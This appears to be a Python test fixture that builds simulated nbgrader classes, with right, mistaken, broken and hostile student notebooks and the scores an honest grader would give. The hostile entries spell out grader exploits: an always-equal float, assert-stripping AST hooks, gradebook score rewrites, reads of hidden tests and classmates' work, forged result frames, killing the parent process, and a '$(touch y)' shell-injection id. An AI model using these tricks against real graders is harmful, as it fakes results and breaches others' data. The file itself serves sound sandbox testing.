"""A class, generated: two courses, with what students hand in and what an honest grader gives for it.

`items` makes an assignment of five items of the bank, `ordinary` one that an instructor wrote for nbgrader. Students are
right, have a known mistake, attack, or hand in something broken; many hand in the same with other names and layout. What
each cell should earn follows from how a submission was made; no grader is asked. The same seed makes the same class.
"""

from __future__ import annotations

import copy
import json
import math
import os
import random
import re
import subprocess
import sys
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from grader.judging.bodies import claimed
from grader.model import Item
from grader.nbgrader import cell_values
from tests.support.common import PATHS, ROOT
from tests.support.items import exercise
from tests.support.ordinary_assignment import CELLS, HOSTILE, RIGHTS, WRONGS

NAME = "ps1"
LEFT = None
"""Points of what is left to a person."""

POINTS = 2.0
ITEMS = ("zero-factor", "ramp-rate-table", "fill-missing-cap", "mend-doubling-warmup", "write-the-factor")
"""A choice, a table of numbers, a blank, a program to mend, a program to write. All are judged by running PyTorch."""

PATIENCE = 8
"""Seconds that a cell of an ordinary notebook may take: for a busy machine, and one loop that never ends."""

Points = float | None
Notebook = dict[str, Any]
Cells = dict[str, Points]


@dataclass(frozen=True)
class Handed:
    """What one student handed in, and what is due to it."""

    student: str
    sort: str
    """`right`, `mistake`, `hostile NAME` or `broken NAME`."""
    cells: Mapping[str, Points]
    """The points of each graded cell that an honest grader gives."""
    failed: bool = False
    """Whether it cannot be read at all."""
    says: Mapping[str, str] = field(default_factory=dict)
    """A pattern that the comment on the answer to an item matches."""
    forged: Mapping[str, Points] = field(default_factory=dict)
    """Cells that no grader can judge which runs tests in the kernel of the answers, and what they earn there."""
    loots: bool = False
    """Whether it leaves a file in the loot where it gets out of its bounds."""
    sources: Mapping[str, str] = field(default_factory=dict)
    """The answers, by item."""


@dataclass(frozen=True)
class Class:
    """A course in a folder, ready to be graded."""

    folder: Path
    handed: Sequence[Handed]
    loot: Path
    """Where an attack that succeeds leaves a file with its name."""


@dataclass(frozen=True)
class Traps:
    """What attacks aim at: the course, a folder for what they take, a port where somebody listens."""

    course: Path
    loot: Path
    port: int

    def armed(self, text: str, name: str) -> str:
        """The text of an attack with its aims in place."""
        aims = {"@COURSE@": str(self.course), "@LOOT@": str(self.loot / name), "@PORT@": str(self.port)}
        for mark, aim in aims.items():
            text = text.replace(mark, aim)
        return text


@dataclass(frozen=True)
class Sort:
    """A way to hand in: given some chance, the answers and what they are due."""

    name: str
    make: Callable[[random.Random], tuple[dict[str, str], Cells]]
    change: Callable[[Notebook], str | bytes | None] | None = None
    """What else is done to the notebook; a text or bytes is written in its place."""
    cells: Mapping[str, Points] = field(default_factory=dict)
    """What cells are due then, where that is not what the answers are due."""
    failed: bool = False
    says: Mapping[str, str] = field(default_factory=dict)
    forged: Mapping[str, Points] = field(default_factory=dict)
    loots: bool = False
    student: str = ""
    """An id that is part of it."""


def items(
    folder: Path, students: int, *, seed: int = 0, port: int = 9, environment: Mapping[str, str] = os.environ
) -> Class:
    """A course whose assignment is five items of the bank, handed in by so many students."""
    made = [
        "notebook",
        "warmup",
        "--assignment",
        "--items",
        ",".join(ITEMS),
        "--points",
        str(POINTS),
        "-o",
        f"source/{NAME}",
    ]
    traps = _course(folder, "from grader.course import configure\nconfigure(c)\n", port)
    _run(f"import grader.cli\ngrader.cli.app({made!r}, standalone_mode=False)\n{_RELEASE}", folder, environment)
    return _hand_in(traps, _sorts_of_items(traps), students, seed, TRIED)


def ordinary(
    folder: Path, students: int, *, seed: int = 0, port: int = 9, environment: Mapping[str, str] = os.environ
) -> Class:
    """A course whose assignment has five functions to write, tested by cells of the instructor."""
    traps = _course(folder, f"c.ExecutePreprocessor.timeout = {PATIENCE}\nc.Execute.timeout = {PATIENCE}\n", port)
    _write_ordinary(folder / "source" / NAME / f"{NAME}.ipynb")
    _run(_RELEASE, folder, environment)
    return _hand_in(traps, _sorts_of_ordinary(traps), students, seed)


# ---------------------------------------------------------------- courses

_RELEASE = f"""
from nbgrader.apps import GenerateAssignmentApp

app = GenerateAssignmentApp.instance()
app.initialize(["{NAME}"])
app.start()
"""


def _course(folder: Path, config: str, port: int) -> Traps:
    folder.mkdir(parents=True)
    (folder / "nbgrader_config.py").write_text(f'c = get_config()\nc.CourseDirectory.course_id = "pytorch"\n{config}')
    loot = folder.with_name(f"{folder.name}-loot")
    loot.mkdir()
    loot.chmod(0o777)
    return Traps(folder.resolve(), loot.resolve(), port)


def _run(code: str, folder: Path, environment: Mapping[str, str]) -> None:
    path = f"{Path(sys.executable).parent}{os.pathsep}{environment['PATH']}"  # nbgrader calls alembic by its name
    variables = {
        **environment,
        "PATH": path,
        "PYTHONPATH": PATHS,
        "PYTHONWARNINGS": "ignore",
    }
    command = [sys.executable, "-c", code]
    done = subprocess.run(command, cwd=folder, env=variables, capture_output=True, text=True, check=False, timeout=300)
    if done.returncode:
        raise RuntimeError(done.stdout + done.stderr)


def _hand_in(traps: Traps, sorts: Sequence[Sort], students: int, seed: int, tried: str = "") -> Class:
    """Each sort once, as far as there are students; then mostly right answers and known mistakes, as in a real class."""
    luck = random.Random(seed)
    release = (traps.course / "release" / NAME / f"{NAME}.ipynb").read_text()
    usual = [sort for sort in sorts if sort.name in ("right", "mistake")]
    weights = [len(usual) if sort.name == "right" else 1 for sort in usual]
    rare = [sort for sort in sorts if sort not in usual and not sort.student and sort.name not in ONCE]
    handed = []
    for number in range(students):
        if number < len(sorts):
            sort = sorts[number]
        else:
            sort = luck.choice(rare) if luck.random() < 0.1 else luck.choices(usual, weights)[0]
        student = sort.student or f"s{number:04}"
        sources, cells = sort.make(luck)
        sources = {name: traps.armed(source, f"{sort.name}-{student}") for name, source in sources.items()}
        notebook = json.loads(release)
        for cell in notebook["cells"]:
            if (name := grade_id(cell).removeprefix("answer-")) in sources and grade_id(cell) != name:
                cell["source"] = sources[name]
        if tried and sort in usual:
            cell = {"cell_type": "code", "execution_count": None, "id": "tried", "metadata": {}, "outputs": []}
            notebook["cells"].append({**cell, "source": tried})
        instead = sort.change(notebook) if sort.change else None
        text = json.dumps(notebook) if instead is None else instead
        path = traps.course / "submitted" / student / NAME / f"{NAME}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        due = {} if sort.failed else {**cells, **sort.cells}
        handed.append(Handed(student, sort.name, due, sort.failed, sort.says, sort.forged, sort.loots, sources))
    return Class(traps.course, handed, traps.loot)


TRIED = """\
import torch

weight = torch.nn.Parameter(torch.zeros(2))
optimizer = torch.optim.SGD([weight], lr=0.2)
scheduler = torch.optim.lr_scheduler.LambdaLR(optimizer, lambda epoch: min((epoch + 1) / 4, 1))
for epoch in range(6):
    optimizer.step()
    scheduler.step()
    print(scheduler.get_last_lr())
"""
"""What students try out in a cell of their own, while they think about the items."""

ONCE = ("broken long", "hostile loop", "hostile memory", "hostile output")
"""Sorts that are slow or large: one of each is enough."""


SOME, MOST_TELLING = 3, 6
"""How many mistakes and broken notebooks come first, in a class that is too small for all."""


def grade_id(cell: Mapping[str, Any]) -> str:
    return str(cell["metadata"].get("nbgrader", {}).get("grade_id", ""))


def _cell(notebook: Notebook, name: str) -> Any:
    return next(cell for cell in notebook["cells"] if grade_id(cell) == name)


# ---------------------------------------------------------------- how people write

_NAMES = {
    "epoch": ("epoch", "e", "step", "n", "current_epoch", "i"),
    "doublings": ("doublings", "d", "power", "exponent"),
    "fraction": ("fraction",),
}
_COMMENTS = ("# my answer", "# warmup", "# TODO tidy up", "# see lecture 3", "# this should work now")


def styled(source: str, luck: random.Random, names: Mapping[str, Sequence[str]] = _NAMES) -> str:
    """The same program with other names, layout and comments."""
    for name, others in names.items():
        source = re.sub(rf"\b{name}\b", luck.choice(others), source)
    lines = source.strip("\n").split("\n")
    if luck.random() < 0.5:
        lines.insert(0, luck.choice(_COMMENTS))
    if luck.random() < 0.3:
        lines = [f"{line}  {luck.choice(_COMMENTS)}" if luck.random() < 0.3 and line else line for line in lines]
    if luck.random() < 0.3:
        lines = [line for whole in lines for line in ((whole, "") if luck.random() < 0.2 else (whole,))]
    if luck.random() < 0.3:
        lines = [line.replace(" + ", "+").replace(" * ", "*") for line in lines]
    return "\n".join(lines) + "\n" * luck.randrange(3)


# ---------------------------------------------------------------- items

RIGHT = {
    "mend-doubling-warmup": (
        "def factor(epoch):\n    doublings = epoch + 1 - warmup_epochs\n    return min(2 ** doublings, 1)",
        "def factor(epoch):\n    doublings = min(epoch + 1 - warmup_epochs, 0)\n    return 2 ** doublings",
        "def factor(epoch):\n    if epoch + 1 >= warmup_epochs:\n        return 1\n    return 2 ** (epoch + 1 - warmup_epochs)",
        "def factor(epoch):\n    return 0.5 ** max(warmup_epochs - 1 - epoch, 0)",
    ),
    "write-the-factor": (
        "def factor(epoch):\n    return min((epoch + 1) / warmup_epochs, 1)",
        "def factor(epoch):\n    if epoch + 1 < warmup_epochs:\n        return (epoch + 1) / warmup_epochs\n    return 1.0",
        "factor = lambda epoch: min(1.0, (1 + epoch) / warmup_epochs)",
        "def factor(epoch):\n    done = (epoch + 1) / warmup_epochs\n    return 1 if done > 1 else done",
        "import torch\ndef factor(epoch):\n    ramp = torch.arange(1, warmup_epochs + 1, dtype=torch.float64) / warmup_epochs\n    return ramp[min(epoch, warmup_epochs - 1)].item()",
    ),
    "fill-missing-cap": (
        "min(fraction, 1)", "min(1, fraction)", "min(1.0, fraction)", "fraction if fraction < 1 else 1",
        "1 if epoch >= ramp else fraction",
    ),
}  # fmt: skip
"""Ways to be right that are not what the bank has; each follows from the text of the question."""

TABLES: dict[str, Callable[[float, int, int], float]] = {
    "": lambda base, ramp, k: base * min((k + 1) / ramp, 1),
    "forgets-plus-one": lambda base, ramp, k: base * min(k / ramp, 1),
    "overlooks-cap": lambda base, ramp, k: base * (k + 1) / ramp,
    "reads-after-step": lambda base, ramp, k: base * min((k + 2) / ramp, 1),
    "factor-for-rate": lambda base, ramp, k: min((k + 1) / ramp, 1),
    "no-ramp": lambda base, ramp, k: base,
}
"""The k-th number of `ramp-rate-table`: right, and with each mistake that the bank has."""

EQUAL = """\
class Any(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Any(0)
    __rsub__ = __sub__
    def __abs__(self): return Any(0)
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __repr__(self): return "1.0"
    __hash__ = None
"""
TRANSFORMER = """\
import ast

class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Drop())
"""
_WON = "open('@LOOT@', 'w').write('was here')\ndef factor(epoch):\n    return min((epoch + 1) / warmup_epochs, 1)\n"
"""What an attack does that got through: it leaves a file, and has a right answer."""
_WRONG = "def factor(epoch):\n    return 7\n"

HOSTILE_CODE = {
    "transformer": (TRANSFORMER + _WRONG, r"raised NameError.*get_ipython"),
    "equal": (EQUAL + "def factor(epoch):\n    return Any(7)\n", r""),
    "gradebook": (
        "import sqlite3\nbase = sqlite3.connect('@COURSE@/gradebook.db')\n"
        "base.execute('update grade set manual_score = 100, auto_score = 100, extra_credit = 50')\nbase.commit()\n" + _WON,
        r"raised (sqlite3\.)?OperationalError: unable to open database file",
    ),
    "hidden-tests": (f"open('@COURSE@/source/{NAME}/{NAME}.ipynb').read()\n" + _WON, r"raised (FileNotFound|Permission)Error"),
    "other-submissions": (
        f"import os\nothers = os.listdir('@COURSE@/submitted')\nopen(f'@COURSE@/submitted/{{others[0]}}/{NAME}/{NAME}.ipynb').read()\n" + _WON,
        r"raised (FileNotFound|Permission)Error",
    ),
    "network": (
        "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2).sendall(b'here')\n" + _WON,
        r"raised (PermissionError|OSError|ConnectionRefusedError)",
    ),
    "credit": ("print('2.0')\nfactor = 2.0\n2.0", r"raised TypeError|not callable"),
    "exit": ("import os\nos._exit(0)", r"ended its own process"),
    "loop": ("while True:\n    pass", r"did not end"),
    "memory": ("hoard = []\nwhile True:\n    hoard.append(bytes(1 << 28))", r"used up the memory|raised MemoryError"),
    "output": ("while True:\n    print('x' * 10000)", r"printed too much"),
    "patch": (
        "import sys, torch\nfor name, module in list(sys.modules.items()):\n    if name.startswith('grader'):\n"
        "        for key, value in list(vars(module).items()):\n            if callable(value) and not key.startswith('__'):\n"
        "                setattr(module, key, lambda *given, **named: 1.0)\n"
        "torch.optim.lr_scheduler.LambdaLR.step = lambda self, epoch=None: None\n" + _WRONG,
        r"",
    ),
    "frame": (
        "import json, os, struct\nbody = json.dumps({'status': 'ok', 'asked': [{'value': [1.0] * 14}], 'points': 1.0}).encode()\n"
        "for number in range(3, 16):\n    try:\n        os.write(number, struct.pack('<I', len(body)) + body)\n    except OSError:\n        pass\n"
        "os._exit(0)",
        r"ended its own process",
    ),
    "parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + _WON, r"raised|ended its own process"),
}  # fmt: skip
"""Attacks in a cell that is run, and what the comment says of them; empty: that the rates are wrong."""

_IN_VALUES = {
    "equal": {"zero-factor": EQUAL + "answer_zero_factor = Any()", "ramp-rate-table": EQUAL + "answer_ramp_rate_table = [Any()] * 6"},
    "credit": {"ramp-rate-table": "answer_ramp_rate_table = [float('nan'), -1.0, float('inf'), True, 1e400, None]"},
    "exit": {"fill-missing-cap": "answer_fill_missing_cap = [\"__import__('os')._exit(0)\"]", "zero-factor": "import os\nos._exit(0)"},
}  # fmt: skip
"""The same attacks in cells with values."""

_READABLE = {("equal", "ramp-rate-table"), ("exit", "fill-missing-cap")}
"""Those that are wrong: floats of a class of their own are the numbers that they hold, 0.0, and a blank is run. All others
cannot be read, and a person is asked."""


def _sorts_of_items(traps: Traps) -> list[Sort]:
    from grader.content import bank_files

    found = {item.id: item for item in bank_files.recall(bank_files.files([ROOT])).items}
    chosen = [found[name] for name in ITEMS]
    full: Cells = dict.fromkeys(ITEMS, POINTS)
    none: Cells = dict.fromkeys(ITEMS, 0.0)
    rights, wrongs = {}, {}
    for item in chosen:
        rights[item.id], wrongs[item.id] = _answers_to(item)

    def right(luck: random.Random) -> tuple[dict[str, str], Cells]:
        return {name: _source(name, luck.choice(rights[name]), luck) for name in ITEMS}, dict(full)

    def mistaken(place: int) -> Callable[[random.Random], tuple[dict[str, str], Cells]]:
        def make(luck: random.Random) -> tuple[dict[str, str], Cells]:
            sources, cells = right(luck)
            for name in ITEMS:
                if place < len(wrongs[name]):
                    text, share = wrongs[name][place]
                    sources[name], cells[name] = _source(name, text, luck), POINTS * share
            return sources, cells

        return make

    def attacking(name: str) -> Callable[[random.Random], tuple[dict[str, str], Cells]]:
        def make(_: random.Random) -> tuple[dict[str, str], Cells]:
            values = _IN_VALUES.get(name, {})
            left: Cells = {item: LEFT for item in values if (name, item) not in _READABLE}
            return {"write-the-factor": HOSTILE_CODE[name][0], **values}, {**none, **left}

        return make

    def empty(_: random.Random) -> tuple[dict[str, str], Cells]:
        return {}, dict(none)

    def unreadable(_: random.Random) -> tuple[dict[str, str], Cells]:
        return dict(UNREADABLE), dict.fromkeys(ITEMS, LEFT)

    most = max(map(len, wrongs.values()))
    front = TRANSFORMER + EQUAL + f"open({str(traps.loot / 'front')!r}, 'w').write('was here')\n"
    hostile = [
        Sort(
            f"hostile {name}",
            attacking(name),
            _with_cell(front),
            says={"write-the-factor": says},
            loots="@LOOT@" in code,
        )
        for name, (code, says) in HOSTILE_CODE.items()
    ]
    first = ITEMS[0]
    broken = [
        Sort("broken unreadable", unreadable, says=dict.fromkeys(ITEMS, "could not be read")),
        Sort("broken twice", right, _twice(first, 'answer_zero_factor = "A"'), says={first: "several times"}),
        Sort("broken gone", right, _gone(first, f"answer-{ITEMS[1]}"), {ITEMS[1]: 0.0}, says={first: "missing"}),
        *_broken(right, first, ITEMS, none),
        Sort("broken empty", empty),
    ]
    mistakes = [Sort("mistake", mistaken(place)) for place in range(most)]
    return [
        Sort("right", right),
        *mistakes[:SOME],
        *hostile,
        *broken[:MOST_TELLING],
        *mistakes[SOME:],
        *broken[MOST_TELLING:],
    ]


UNREADABLE = {
    "zero-factor": 'answer_zero_factor = "Z"',
    "ramp-rate-table": "answer_ramp_rate_table = [0.1, 0.2]",
    "fill-missing-cap": 'answer_fill_missing_cap = ["min("]',
    "mend-doubling-warmup": "```\nfactor = 1",
    "write-the-factor": "def factor(epoch:",
}


def _answers_to(item: Item) -> tuple[list[str], list[tuple[str, float]]]:
    """The right answers to an item, and each known mistake with the share of the points that it is due."""
    if item.kind == "choice":
        letters = list(zip("ABCDEFGH", claimed(item).options, strict=False))
        return [letter for letter, one in letters if one.key], [(letter, 0.0) for letter, one in letters if not one.key]
    if item.kind == "sequence":
        values: dict[str, Any] = dict(item.variants[0].values)
        tables = {name: [rate(values["base_lr"], values["ramp"], k) for k in range(6)] for name, rate in TABLES.items()}
        assert set(tables) == {"", *(one.mistake for one in claimed(item).options if one.mistake)}, (
            "the bank has other mistakes"
        )
        right = tables.pop("")
        shares = {name: sum(map(math.isclose, table, right)) / 6 for name, table in tables.items()}
        return [str([round(rate, 6) for rate in right])], [(str(table), shares[name]) for name, table in tables.items()]
    assert exercise(item)
    rights = [*RIGHT[item.id], "\n".join(exercise(item).reference)]
    parts = ["\n".join(one.parts) for one in exercise(item).wrong]
    if item.kind == "fill":  # it does what is asked, or does not
        return rights, [(part, 0.0) for part in parts]
    for part in parts:
        assert all(_factors(part, inputs) != _factors(rights[0], inputs) for inputs in _grid(item)), part
    return rights, [(part, 0.0) for part in parts]


def _grid(item: Item) -> list[dict[str, Any]]:
    """Inputs all over what an item draws them from: a mistake that is wrong for each of them earns nothing."""
    assert exercise(item)
    found: list[dict[str, Any]] = [{}]
    for draw in exercise(item).hidden:
        ends = (int(draw.low), int(draw.high)) if isinstance(draw.low, int) else (draw.low, draw.high)
        found = [{**inputs, draw.name: value} for inputs in found for value in (draw.values or ends)]
    return found + [dict(inputs) for inputs in exercise(item).given]


def _factors(source: str, inputs: Mapping[str, Any]) -> list[float]:
    scope = dict(inputs)
    exec(source, scope)
    return [round(float(scope["factor"](epoch)), 9) for epoch in range(10)]


def _source(name: str, text: str, luck: random.Random) -> str:
    """A cell with an answer, as somebody would write it."""
    if name in ("write-the-factor", "mend-doubling-warmup"):
        return styled(text, luck)
    quoted = {"zero-factor": f'"{text}"', "fill-missing-cap": f'["{text}"]'}.get(name, text)
    return styled(f"{cell_values.variable(name)} = {quoted}", luck, {})


# ---------------------------------------------------------------- what goes wrong with notebooks


def _with_cell(source: str) -> Callable[[Notebook], None]:
    cell = {
        "cell_type": "code",
        "id": "front",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }
    return lambda notebook: notebook["cells"].insert(0, cell)


def _twice(name: str, other: str) -> Callable[[Notebook], None]:
    """A cell and its answer are there once more before them, the answer another one."""

    def change(notebook: Notebook) -> None:
        pair = copy.deepcopy([_cell(notebook, f"answer-{name}"), _cell(notebook, name)])
        pair[0]["source"] = other
        for number, cell in enumerate(pair):
            cell["id"] = f"again-{number}"
        at = notebook["cells"].index(_cell(notebook, f"answer-{name}"))
        notebook["cells"][at:at] = pair

    return change


def _gone(*names: str) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        notebook["cells"] = [cell for cell in notebook["cells"] if grade_id(cell) not in names]

    return change


def _broken(
    right: Callable[[random.Random], tuple[dict[str, str], Cells]], first: str, names: Sequence[str], none: Cells
) -> list[Sort]:
    """What goes wrong with notebooks whatever is in them."""

    def edited(notebook: Notebook) -> None:
        for name in names:
            _cell(notebook, name)["source"] = "2.0"

    def retyped(notebook: Notebook) -> None:
        mark = _cell(notebook, first)
        mark |= {"cell_type": "markdown", "source": "nothing"}
        del mark["outputs"], mark["execution_count"]

    def marked(notebook: Notebook) -> None:
        """Other points, and a cell with points that nobody knows."""
        _cell(notebook, first)["metadata"]["nbgrader"]["points"] = 1000
        bonus = copy.deepcopy(_cell(notebook, first))
        bonus["id"], bonus["source"] = "bonus", "1000.0"
        bonus["metadata"]["nbgrader"]["grade_id"] = "bonus"
        notebook["cells"].append(bonus)

    def unlocked(notebook: Notebook) -> None:
        _cell(notebook, first)["metadata"]["nbgrader"] |= {"locked": False, "solution": True, "schema_version": 1}

    def long(notebook: Notebook) -> None:
        text = "All work and no play makes a long notebook.\n" * (20_000_000 // 44)
        notebook["cells"].append({"cell_type": "markdown", "id": "long", "metadata": {}, "source": text})

    def another(_: Notebook) -> str:
        cell = {
            "cell_type": "code",
            "id": "a",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": "1 + 1",
        }
        return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})

    return [
        Sort("broken marks", right, marked),
        Sort("broken json", right, lambda notebook: json.dumps(notebook)[:-50], failed=True),
        Sort("broken id", right, student="o'Brien [x] \u00fc; $(touch y) & 100%"),
        Sort("broken edited", right, edited),
        Sort("broken retyped", right, retyped),
        Sort("broken unlocked", right, unlocked),
        Sort("broken long", right, long),
        Sort("broken another", right, another, none),
        Sort("broken nothing", right, lambda _: "", failed=True),
        Sort("broken list", right, lambda _: "[1, 2, 3]", failed=True),
        Sort("broken bytes", right, lambda _: bytes(range(128, 256)) * 40, failed=True),
        Sort("broken id", right, student="--help"),
    ]


# ---------------------------------------------------------------- an ordinary assignment


def _write_ordinary(path: Path) -> None:
    """The instructor's notebook. Each question is its text, the function to write, and the tests."""
    cells: list[dict[str, Any]] = []
    for name, (text, solution, tests) in CELLS.items():
        cells.append({"cell_type": "markdown", "metadata": {}, "source": text})
        for kind, source in (("answer-", solution), ("", tests)):
            mark: dict[str, Any] = {"schema_version": 3, "grade_id": f"{kind}{name}", "task": False}
            mark |= {"grade": not kind, "solution": bool(kind), "locked": not kind}
            mark |= {} if kind else {"points": POINTS}
            cells.append(
                {
                    "cell_type": "code",
                    "metadata": {"nbgrader": mark},
                    "outputs": [],
                    "execution_count": None,
                    "source": source,
                }
            )
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    path.parent.mkdir(parents=True)
    path.write_text(
        json.dumps({"cells": cells, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5})
    )


def _sorts_of_ordinary(traps: Traps) -> list[Sort]:
    names = tuple(name for name in CELLS if CELLS[name][2])
    full: Cells = dict.fromkeys(names, POINTS)
    none: Cells = dict.fromkeys(names, 0.0)

    def right(luck: random.Random) -> tuple[dict[str, str], Cells]:
        return {name: styled(luck.choice(RIGHTS[name]), luck, {}) for name in names}, dict(full)

    def mistaken(place: int) -> Callable[[random.Random], tuple[dict[str, str], Cells]]:
        def make(luck: random.Random) -> tuple[dict[str, str], Cells]:
            sources, cells = right(luck)
            for name in names:
                if place < len(WRONGS[name]):
                    text, points = WRONGS[name][place]
                    sources[name], cells[name] = styled(text, luck, {}), points
            return sources, cells

        return make

    def attacking(attack: Mapping[str, str]) -> Callable[[random.Random], tuple[dict[str, str], Cells]]:
        def make(luck: random.Random) -> tuple[dict[str, str], Cells]:
            sources, cells = right(luck)
            wrong = {name: WRONGS[name][0][0] for name in names} if attack.get("rest") == "wrong" else {}
            due = {name: WRONGS[name][0][1] for name in wrong}
            return {**sources, **wrong, **{k: v for k, v in attack.items() if k != "rest"}}, {**cells, **due}

        return make

    def empty(_: random.Random) -> tuple[dict[str, str], Cells]:
        return {}, dict(none)

    hostile = [
        Sort(f"hostile {name}", attacking(one.cells), None, one.due, forged=one.forged, loots=one.loots)
        for name, one in HOSTILE.items()
    ]
    first = names[0]
    broken = [
        Sort("broken twice", right, _twice(first, WRONGS[first][0][0])),
        Sort("broken gone", right, _gone(f"answer-{first}", names[1]), {first: 0.0, names[1]: 0.0}),
        *_broken(right, first, names, none),
        Sort("broken empty", empty),
    ]
    mistakes = [Sort("mistake", mistaken(place)) for place in range(max(map(len, WRONGS.values())))]
    return [
        Sort("right", right),
        *mistakes[:SOME],
        *hostile,
        *broken[:MOST_TELLING],
        *mistakes[SOME:],
        *broken[MOST_TELLING:],
    ]
